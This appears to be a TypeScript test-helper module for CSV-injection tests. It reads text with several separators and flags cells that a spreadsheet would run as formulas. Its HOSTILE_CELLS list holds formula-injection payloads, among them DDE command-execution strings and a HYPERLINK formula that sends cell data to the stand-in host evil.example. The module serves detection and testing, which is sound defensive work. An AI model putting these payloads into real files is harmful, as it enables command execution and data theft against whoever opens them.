/**
 * Hostile cells and the readers that try them: what the CSV-injection tests of exports and of
 * copied rows share. A text is read with each of the separators `,` `;` TAB — a spreadsheet or
 * script set to another separator than the text's — by
 *  - csv-parse as an RFC 4180 reader (a record it cannot read with that separator is skipped, as a
 *    strict reader refuses it);
 *  - the way LibreOffice Calc's import splits text (./calcCsvReader.ts): quotes honoured, but a
 *    quoted field ends only at a quote followed by the separator.
 */
import { parse } from 'csv-parse/sync';
import { readLikeCalc } from './calcCsvReader.ts';

/** The separators every text is read with. */
export const SEPARATORS = [',', ';', '\t'] as const;

/** Cells an attacker would put into a contact or an order to run something in a spreadsheet. */
export const HOSTILE_CELLS = [
  `Acme;=cmd|' /C calc'!A0`,
  `Acme,=cmd|' /C calc'!A0`,
  `Acme\t=cmd|' /C calc'!A0`,
  `Acme; =HYPERLINK("http://evil.example/?"&A1;"x")`,
  '\t=1+1',
  '\r=1+1',
  '=x\t=1+1',
  '   =1+1',
  ' \u00a0\u3000+1+1',
  '\u00a0\t-1+1',
  '＝1+1',
  '＋cmd|\' /C calc\'!A0',
  '－1+1',
  '＠SUM(A1)',
  `";=cmd|' /C calc'!A0;`,
  `";=cmd|' /C calc'!A0,`,
  `  ;=cmd|' /C calc'!A0;`,
  `,=cmd|' /C calc'!A0,`,
  `\t;=1+1;`,
  `x"";=1+1;`,
  `"`,
  `""`,
  `a"\r\n=1+1`,
  'first\r\n=1+1;=2+2',
  `=HYPERLINK("http://evil.example/?"&A1,"x")`,
  '\0=1+1',
];

const NUMBER = /^\s*[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?\s*$/;

/** True when a spreadsheet would take `cell` as a formula (numbers are numbers; a leading TAB, CR or NUL is stripped or split on). */
export function startsFormula(cell: string): boolean {
  if (NUMBER.test(cell)) return false;
  return /^\s*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/u.test(cell) || /^[\t\r\0]/.test(cell);
}

/** Every cell of every reading of `text` (csv-parse and Calc's way, each separator) that starts a formula. */
export function formulaCells(text: string, bom: boolean): string[] {
  const found: string[] = [];
  for (const sep of SEPARATORS) {
    const strict = parse(text, { delimiter: sep, bom, record_delimiter: ['\r\n', '\n', '\r'], relax_column_count: true, skip_records_with_error: true }) as string[][];
    for (const record of strict) for (const cell of record) if (startsFormula(cell)) found.push(`csv-parse ${JSON.stringify(sep)}: ${JSON.stringify(cell)}`);
    for (const record of readLikeCalc(text, sep)) for (const cell of record) if (startsFormula(cell)) found.push(`calc ${JSON.stringify(sep)}: ${JSON.stringify(cell)}`);
  }
  return found;
}
